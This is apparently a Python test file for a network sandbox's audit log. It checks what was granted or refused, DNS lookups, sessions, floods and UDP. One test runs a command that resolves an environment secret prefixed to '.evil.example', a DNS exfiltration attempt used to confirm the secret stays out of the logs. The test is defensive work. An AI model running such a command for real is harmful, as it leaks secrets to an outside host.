"""Audit records of commands under a network list: what was refused, and what was allowed after a question."""

from __future__ import annotations

from collections.abc import Callable

Client = Callable[[str], list[str]]

RECORDS = """
log = os.path.join(os.path.dirname(ws), "audit.jsonl")
nsbox.audit.to_file(log, required=True)
def ends(kind="command"):
    return [r["network"] for r in map(json.loads, open(log)) if r["event"] == "end" and r["kind"] == kind]
def shown(rows):
    return sorted({f"{row['kind']} {row['name'] or row['address']}:{row['port']} {row['reason']}" for row in rows})
def command(code):
    return [sys.executable, "-S", "-P", "-c", ASK + code]
"""


def test_granted(client: Client) -> None:
    """What on_connect has allowed is in the record of the end, also if the server is down; what it refused is apart."""
    code = """
want = '''
ask("a.example", 80), ask("c.a.example", 80), ask("down.example", 80), ask("b.example", 80), ask("203.0.113.1", 5432)
'''
nsbox.run(command(want), policy=policy("a.example:80"), on_connect=lambda request: request.name != "b.example")
(network,) = ends()
print(shown(network["granted"]))
print(shown(network["refusals"]), network["complete"])
"""
    found = client(RECORDS + code)
    granted = ["connect 203.0.113.1:5432 asked", "connect c.a.example:80 asked", "connect down.example:80 asked"]
    assert found == [str(granted), "['connect b.example:80 asked'] True"]


def test_lookups_before_a_question(client: Client) -> None:
    """A lookup is answered before the question, and says so; only what was asked about counts as asked."""
    code = """
asked = []
def on_connect(request):
    asked.append(str(request))
    return False
want = 'socket.getaddrinfo("b.example", 80)'
process = nsbox.Popen(command(want), policy=policy("a.example:80"), on_connect=on_connect)
process.wait()
print(asked, [*process.sandbox.network.counts])
print({(e.kind, e.name, e.verdict, e.reason) for e in process.sandbox.network.events})
"""
    found = client(RECORDS + code)
    assert found == ["[] [('allowed', 'unasked')]", "{('dns', 'b.example', 'allowed', 'unasked')}"]


def test_a_session(client: Client) -> None:
    """Each command of a session has what it was granted, whether the question was its own or an earlier one's."""
    code = """
with nsbox.Sandbox(policy(), on_connect=lambda request: True) as box, box.session() as session:
    for want in ('ask("a.example", 80)', 'ask("a.example", 80), ask("c.a.example", 80)', 'ask("c.a.example", 80)'):
        session.run(command(want))
for network in ends("session"):
    print(shown(network["granted"]))
"""
    first, second = "connect a.example:80 asked", "connect c.a.example:80 asked"
    assert client(RECORDS + code) == [str([first]), str([first, second]), str([second])]


def test_a_flood_hides_nothing(client: Client) -> None:
    """However much else is refused before and after it, a host is in the record as one of the first or of the last."""
    code = """
flood = '''
for i in range(1500):
    ask(f"n{i % 500}.example", 80)
'''
for want in ('ask("first.example", 80)' + flood, flood + 'ask("last.example", 80)'):
    nsbox.run(command(want), policy=policy("a.example:80"))
for network in ends():
    names = {row["name"] for row in network["refusals"]}
    print(len(network["refusals"]), len(names), {"first.example", "last.example"} & names, network["complete"])
    print(network["refused"] + network["lost"] > 1500)
"""
    found = client(RECORDS + code)
    assert found == ["20 20 {'first.example'} False", "True", "20 20 {'last.example'} False", "True"]


def test_secrets_in_names(client: Client) -> None:
    """A secret of a call isn't in a record as a part of a host's name, which is in lower case."""
    code = """
want = f'''{sys.executable} -S -c "import os, socket; socket.getaddrinfo(os.environ['KEY'] + '.evil.example', 80)"'''
with nsbox.Sandbox(policy("a.example:80")) as box:
    print(box.shell(want, secrets={"KEY": "Open-Sesame-42"}).returncode)
text = open(log).read()
print("esame" in text.lower(), ".evil.example" in text, "explained" in text)
"""
    assert client(RECORDS + code) == ["1", "False True True"]


def test_datagrams(client: Client) -> None:
    """UDP to what isn't listed is refused and recorded, with an entry for UDP and without; a flood has few events."""
    code = """
want = '''
def send(host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        try:
            s.connect((host, port))
            s.send(b"ping")
            s.recv(99)
        except OSError as error:
            return errno.errorcode.get(error.errno, type(error).__name__)
def flood(host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        for _ in range(5000):
            s.sendto(b"ping", (host, port))
print(send("a.example", 443), send("203.0.113.9", 53), send("10.1.2.3", 53), flush=True)
flood("a.example", 443)
'''
for entries in (("a.example:80", "203.0.113.0/24:80"), ("a.example:80", "203.0.113.0/24:80", "c.a.example:123/udp")):
    print(nsbox.check_output(command(want), policy=policy(*entries), text=True).strip())
    network = ends()[-1]
    print(shown(network["refusals"]), network["refused"] < 1000, network["lost"])
"""
    found = client(RECORDS + code)
    refused = "ECONNREFUSED ECONNREFUSED ECONNREFUSED"
    told = "['udp 10.1.2.3:53 not-listed', 'udp 203.0.113.9:53 not-listed', 'udp a.example:443 not-listed'] True 0"
    assert found == [refused, told] * 2
